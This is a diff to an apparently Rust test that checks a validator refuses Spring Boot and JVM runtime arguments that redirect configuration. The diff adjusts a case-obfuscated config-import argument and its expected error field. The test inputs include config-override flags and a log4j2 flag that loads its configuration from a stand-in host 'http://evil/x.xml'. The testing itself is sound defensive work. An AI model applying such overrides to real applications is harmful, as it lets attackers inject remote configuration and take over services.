@@ -230,8 +230,8 @@ fn every_way_out_is_refused_and_the_message_names_the_field_and_the_value() {
         ),
         (
             "runtime",
-            json!({ "springBoot": { "arguments": ["--Spring.Con-fig.additional_location=/tmp/"] } }),
-            "Con-fig",
+            json!({ "springBoot": { "arguments": ["--Spring.Con-fig.im_port=/tmp/"] } }),
+            "springBoot.arguments",
         ),
         ("runtime", json!({ "springBoot": { "arguments": ["--logging.config=/tmp/x.xml"] } }), "logging.config"),
         ("runtime", json!({ "springBoot": { "jvm": ["-Dlog4j2.configurationFile=http://evil/x.xml"] } }), "log4j2"),
